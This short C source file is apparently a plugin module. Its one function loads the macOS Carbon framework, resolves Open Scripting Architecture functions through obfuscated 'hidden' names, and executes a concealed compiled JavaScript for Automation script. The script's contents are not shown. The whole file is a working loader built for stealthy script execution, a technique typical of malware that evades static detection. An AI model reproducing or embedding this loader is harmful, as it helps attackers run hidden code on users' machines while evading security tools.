/* A compiled script for automation in JavaScript, under a byte, is loaded by the Open
 * Scripting Architecture, whose functions come by hidden names. */
#include "plugin.h"
#include "hidden.h" /* 0: the framework, 1: OSALoad, 2: OSAExecute, 3: OpenDefaultComponent, 4: AECreateDesc, 5: the script */
extern void *dlopen(const char *, int), *dlsym(void *, const char *);
extern unsigned long strlen(const char *);
struct descriptor { unsigned type; void *data; };
static void act(char **env) {
    void *carbon = dlopen(hidden0(), 1);
    int (*load)(void *, const struct descriptor *, int, unsigned *) = dlsym(carbon, hidden1());
    int (*run)(void *, unsigned, unsigned, int, unsigned *) = dlsym(carbon, hidden2());
    void *(*component)(unsigned, unsigned) = dlsym(carbon, hidden3());
    int (*describe)(unsigned, const void *, long, struct descriptor *) = dlsym(carbon, hidden4());
    struct descriptor d;
    unsigned script, result;
    char *text = hidden5();
    describe(0x73637074, text, strlen(text), &d);
    void *c = component(0x6f736120, 0x73637074);
    load(c, &d, 0, &script);
    run(c, script, 0, 0, &result);
}
